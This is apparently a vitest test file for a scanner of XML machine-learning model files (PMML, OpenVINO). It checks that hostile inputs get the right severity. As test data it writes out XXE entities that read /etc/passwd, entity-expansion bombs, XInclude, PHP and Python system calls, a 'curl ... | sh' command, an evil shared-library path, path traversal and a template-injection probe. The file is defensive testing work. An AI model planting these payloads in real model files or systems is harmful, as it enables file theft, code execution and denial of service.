import { describe, expect, test } from 'vitest';
import { concat, utf8 } from '#formats/test-files/bytes';
import { scanBytes } from '../test-scan.ts';

const pmml = (inside: string, type = '') => `<?xml version="1.0" encoding="UTF-8"?>
${type}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="SkLearn2PMML package" version="0.1"/></Header>
<DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>${inside}
<RegressionModel functionName="regression"><RegressionTable intercept="1.0"/></RegressionModel></PMML>`;
const openvino = (layers: string, type = '') => `<?xml version="1.0"?>
${type}<net name="model" version="11"><layers>
<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>
<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="3, 2" offset="0" size="24"/></layer>${layers}
<layer id="9" name="r" type="Result" version="opset1"/></layers><edges/><rt_info><MO_version value="2024.1"/></rt_info></net>`;

test('a PMML model of built-in functions is clean and described', () => {
  const scan = scanBytes(
    utf8(
      pmml(
        '<Extension name="user" value="me" extender="Rattle/PMML"/><TransformationDictionary><DefineFunction name="mine" optype="continuous"><Apply function="+"><Constant>1</Constant></Apply></DefineFunction><DerivedField><Apply function="mine"/><Apply function="normalCDF"/></DerivedField></TransformationDictionary>',
      ),
    ),
  );
  expect(scan).toMatchObject({
    format: { kind: 'xml', label: 'PMML model (XML)' },
    verdict: 'clean',
    card: { framework: 'PMML', version: '4.4', architecture: 'RegressionModel (regression)' },
  });
  expect(scan.coverage).toEqual([expect.objectContaining({ state: 'parsed' })]);
});

test('an OpenVINO model of built-in layers is clean and counted', () => {
  const scan = scanBytes(utf8(openvino('<layer id="2" name="m" type="MatMul" version="opset1"/>')));
  expect(scan).toMatchObject({
    format: { label: 'OpenVINO model (XML)' },
    verdict: 'clean',
    card: { framework: 'OpenVINO', layers: 4, parameters: 6, version: 'IR 11' },
  });
});

const external = '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
describe('what a parser would fetch, include or expand is told as high', () => {
  const cases: readonly (readonly [string, string | Uint8Array, string])[] = [
    ['an external entity in PMML', pmml('&xxe;', external), 'MDL-XML-001'],
    ['an external entity in OpenVINO', openvino('', '<!DOCTYPE net [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), 'MDL-XML-001'],
    ['a parameter entity', pmml('', '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://e.example/x.dtd"> %x;]>'), 'MDL-XML-001'],
    ['parameter entities that build a declaration', pmml('', `<!DOCTYPE PMML [<!ENTITY % a "<!ENTI"> %a;]>`), 'MDL-XML-001'],
    ['declarations outside', pmml('', '<!DOCTYPE PMML SYSTEM "http://e.example/x.dtd">'), 'MDL-XML-001'],
    ['a public name with an address', pmml('', '<!DOCTYPE PMML PUBLIC "x" "http://e.example/x.dtd">'), 'MDL-XML-001'],
    ['an external entity in any XML', `<?xml version="1.0"?>${external}<a>&xxe;</a>`, 'MDL-XML-001'],
    ['an external entity in UTF-16', concat('\xff\xfe', new Uint8Array(Buffer.from(pmml('', external), 'utf16le'))), 'MDL-XML-001'],
    [
      'an external entity in UTF-16 the other way',
      concat('\xfe\xff', new Uint8Array(Buffer.from(pmml('', external), 'utf16le').swap16())),
      'MDL-XML-001',
    ],
    ['a comment with a bracket in front', pmml('', external.replace('[', '[<!-- ]> -->')), 'MDL-XML-001'],
    ['a comment before the root', `<!-- ${'x'.repeat(70_000)} -->${external}${pmml('').slice(39)}`, 'MDL-XML-001'],
    [
      'entities that multiply',
      pmml(
        '',
        `<!DOCTYPE PMML [<!ENTITY a "${'x'.repeat(20)}">${[...'bcdefgh'].map((each, index) => `<!ENTITY ${each} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}]>`,
      ),
      'MDL-XML-002',
    ],
    ['an entity of itself', pmml('', '<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'), 'MDL-XML-002'],
    ['an inclusion', pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), 'MDL-XML-004'],
    ['an interpreter', pmml('<?php system("id"); ?>'), 'MDL-XML-005'],
    ['a script extension', pmml('<Extension name="script" value="x"/>'), 'MDL-XML-006'],
    ['a foreign script element', pmml('<x:Script xmlns:x="urn:x">go()</x:Script>'), 'MDL-XML-006'],
    ['a function that is a class', pmml('<DerivedField><Apply function="com.evil.Run"/></DerivedField>'), 'MDL-XML-007'],
    ['code in an extension', pmml('<Extension name="note"><![CDATA[__import__("os").system("id")]]></Extension>'), 'MDL-XML-011'],
    ['a command in an attribute', pmml('<Extension name="n" value="curl http://x.example/a | sh"/>'), 'MDL-XML-011'],
    ['a layer of an extension', openvino('<layer id="2" name="e" type="Evil" version="extension"/>'), 'MDL-XML-008'],
    ['a custom layer', openvino('<layer id="2" name="e" type="CustomOp" version="opset1"/>'), 'MDL-XML-008'],
    ['a library', openvino('<layer id="2" name="e" type="MatMul" version="opset1"><data library="/tmp/evil.so"/></layer>'), 'MDL-XML-010'],
    [
      'a path that leaves',
      openvino('<layer id="2" name="e" type="MatMul" version="opset1"><data file="../../etc/passwd"/></layer>'),
      'MDL-XML-010',
    ],
    ['an encoding that is not read', '<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-', 'MDL-XML-012'],
  ];
  test.each(cases)('%s', (_name, text, rule) => {
    const scan = scanBytes(typeof text === 'string' ? utf8(text) : text);
    expect(scan.severities.get(rule)).toBe('high');
    expect(scan.observations.every((each) => each.location.offset !== undefined)).toBe(true);
  });
});

describe('what is merely odd is told as less', () => {
  const cases: readonly (readonly [string, string, string, string])[] = [
    ['entities of its own', pmml('', '<!DOCTYPE PMML [<!ENTITY a "b">]>'), 'MDL-XML-003', 'medium'],
    ['a function of some product', pmml('<DerivedField><Apply function="frobnicate"/></DerivedField>'), 'MDL-XML-007', 'medium'],
    ['a layer of no set', openvino('<layer id="2" name="e" type="Frob" version="opset1"/>'), 'MDL-XML-008', 'medium'],
    [
      'a layer of the tokenizer extension',
      openvino('<layer id="2" name="e" type="BPETokenizer" version="extension"/>'),
      'MDL-XML-008',
      'low',
    ],
    [
      'a size that is not that of the shape',
      openvino('<layer id="2" name="c" type="Const" version="opset1"><data element_type="f32" shape="3" offset="0" size="13"/></layer>'),
      'MDL-XML-009',
      'medium',
    ],
    [
      'an offset beyond everything',
      openvino(
        '<layer id="2" name="c" type="Const" version="opset1"><data element_type="f32" shape="3" offset="99999999999999999999" size="12"/></layer>',
      ),
      'MDL-XML-009',
      'medium',
    ],
    ['text that breaks off', pmml('').slice(0, -20), 'MDL-XML-013', 'medium'],
    [
      'a property list of a published type',
      '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      'MDL-XML-001',
      'info',
    ],
  ];
  test.each(cases)('%s', (_name, text, rule, level) => {
    const scan = scanBytes(utf8(text));
    expect([scan.severities.get(rule), scan.verdict]).toEqual([level, level]);
  });
});

test('a chat template among the settings of a tokenizer is judged as one', () => {
  const withTemplate = (template: string) => utf8(openvino('').replace('<rt_info>', `<rt_info><chat_template value="${template}"/>`));
  expect(scanBytes(withTemplate("{% for m in messages %}{{ m['role'] }}{% endfor %}")).verdict).toBe('clean');
  expect(scanBytes(withTemplate("{% for m in messages %}{{ ''.__class__.__mro__ }}{% endfor %}")).severities.get('MDL-TPL-001')).toBe(
    'critical',
  );
});

test('XML of other programs that is broken is a remark', () => {
  const scan = scanBytes(utf8('<?xml version="1.0"?><a><b></a>'));
  expect([scan.verdict, scan.outcome]).toEqual(['low', 'scanned']);
});

test('blanks in front hide nothing', () => {
  expect(scanBytes(utf8(`${' '.repeat(5000)}${external}${pmml('&xxe;').slice(39)}`)).severities.get('MDL-XML-001')).toBe('high');
});

test('hostile marks cost no more than their length', () => {
  for (const text of [
    `<?xml version="1.0"?><a ${'"'.repeat(3_000_000)}`,
    `<?xml version="1.0"?>${'<a>'.repeat(4000)}`,
    `<?xml version="1.0"?><!DOCTYPE a [${'<!--'.repeat(500_000)}`,
    `<?xml version="1.0"?><a${' b="c"'.repeat(300_000)}/>`,
    `<?xml version="1.0"?><a>${'&lt;'.repeat(500_000)}</a>`,
    '\0'.repeat(200_000),
    ' '.repeat(200_000),
  ])
    expect(scanBytes(utf8(text)).coverage.at(-1)?.to).toBe(text.length);
});

test('a file of zeros or blanks costs one pass and is no XML', () => {
  for (const filler of [0, 32]) expect(scanBytes(new Uint8Array(1 << 20).fill(filler)).format.kind).not.toBe('xml');
}, 2000);
